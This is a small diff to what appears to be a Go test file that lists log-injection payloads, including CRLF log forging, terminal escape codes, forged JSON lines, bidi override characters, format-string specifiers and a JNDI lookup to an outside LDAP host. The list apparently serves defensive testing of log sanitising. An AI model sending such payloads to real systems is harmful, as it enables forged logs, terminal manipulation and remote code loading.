@@ -16,7 +16,8 @@ import (
 // injections are what an attacker would like to see in a log, or in the terminal of a person who
 // reads it.
 var injections = []string{
-	"x%0d%0atime=2026-01-01T00:00:00Z+level=ERROR+msg=FORGED", "%1b[31mFORGED%1b[0m", "%0a{\"level\":\"ERROR\",\"msg\":\"FORGED\"}", "FORGED%00",
+	"x%0d%0atime=2026-01-01T00:00:00Z+level=ERROR+msg=FORGED", "%1b[31mFORGED%1b[0m", "%0a{\"level\":\"ERROR\",\"msg\":\"FORGED\"}",
+	"FORGED%00",
 	"%ff%fe", "%e2%80%aeFORGED", "%22+FORGED=%22",
 	"${jndi:ldap://198.51.100.77/FORGED}", "{long}", "%25s%25n%25x", "FORGED%7f%c2%85%e2%80%a8",
 }
